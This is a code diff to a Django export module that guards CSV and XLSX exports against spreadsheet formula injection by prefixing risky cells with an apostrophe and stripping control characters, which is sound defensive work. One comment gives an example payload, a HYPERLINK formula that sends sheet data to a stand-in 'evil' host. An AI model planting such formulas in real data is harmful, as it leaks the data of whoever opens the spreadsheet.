@@ -6,6 +6,7 @@ OFFSET, so page 1000 costs what page 1 costs; every filter and sort is backed by
 """
 
 import datetime
+import re
 from dataclasses import dataclass
 
 from django import forms
@@ -430,6 +431,24 @@ def export_headings() -> list[str]:
     ]
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula (tab and CR too, once
+# the CSV is pasted or re-imported): a participant named =HYPERLINK("http://evil/?"&A1) would
+# send the sheet's data away when staff open the export.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# Control characters XML 1.0 cannot hold: openpyxl refuses the whole file over one of them.
+_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
+
+
+def spreadsheet_text(value):
+    """`value` safe for a CSV or XLSX cell: text that a spreadsheet would read as a formula
+    gets a leading apostrophe (OWASP's rule, what Excel shows for typed text), and characters
+    no XLSX file can hold are dropped. Numbers, dates and None pass unchanged."""
+    if not isinstance(value, str):
+        return value
+    value = _XML_ILLEGAL.sub("", value)
+    return "'" + value if value.startswith(FORMULA_STARTS) else value
+
+
 def _local(moment):
     # Spreadsheets have no time zones: write the school's local wall-clock time.
     return timezone.localtime(moment).replace(tzinfo=None, microsecond=0) if moment else None
@@ -439,7 +458,7 @@ def export_cells(row) -> list:
     """One EXPORT_FIELDS tuple as the cells of an export line, in export_headings() order."""
     (number, name, email, course, title, issued_at, method, by_name, by_email, forced,
      version, outdated, deleted_at, del_name, del_email) = row  # fmt: skip
-    return [
+    cells = [
         number,
         name,
         email,
@@ -454,6 +473,8 @@ def export_cells(row) -> list:
         _local(deleted_at),
         del_name or del_email or "",
     ]
+    # Names, emails, titles and numbers are typed by people the school does not control.
+    return [spreadsheet_text(cell) for cell in cells]
 
 
 def export_table(*, project, filters: Filters):
